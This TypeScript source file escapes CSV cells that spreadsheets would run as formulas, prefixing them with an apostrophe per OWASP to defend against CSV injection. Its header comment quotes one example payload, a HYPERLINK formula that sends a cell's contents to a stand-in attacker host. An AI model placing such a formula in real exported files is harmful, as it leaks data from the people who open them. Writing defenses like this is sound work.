// Cells that a spreadsheet would run as a formula. Pure.
//
// The build outputs labels.csv, label_sets.csv, lut/<dataset>.csv and coverage.csv are opened in
// spreadsheets; a native class name such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(...)` would
// run there (CSV injection). Native names cannot be refused or reworded upstream (they must match
// the annotations to the letter: the `cell-formula` rule keeps them with a warning), so the outputs
// get the OWASP treatment: such a cell starts with a `'`, which spreadsheets take as "text follows".
// labelmap.json, which code reads, keeps every name exact.

const NUMBER_RE = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:e[+-]?\d+)?$/i;

/**
 * The character that makes a spreadsheet run the cell as a formula (`=`, `+`, `-`, `@`, tab, CR),
 * or null. A number such as `-1` or `+3.5` is a number, not a formula.
 */
export function formulaStart(cell: string): string | null {
  // Asked of every cell of every sheet read and written: the common answer without a string.
  const c = cell.charCodeAt(0);
  if (c !== 0x3d && c !== 0x2b && c !== 0x2d && c !== 0x40 && c !== 0x09 && c !== 0x0d) return null;
  const first = cell[0]!;
  if ((first === '+' || first === '-') && NUMBER_RE.test(cell)) return null;
  if ((first === '\t' || first === '\r') && NUMBER_RE.test(cell.trim())) return null;
  return first;
}

/** The cell as a spreadsheet may open it: with a leading `'` when it would start a formula (OWASP). */
export function spreadsheetCell(cell: string): string {
  return formulaStart(cell) === null ? cell : `'${cell}`;
}
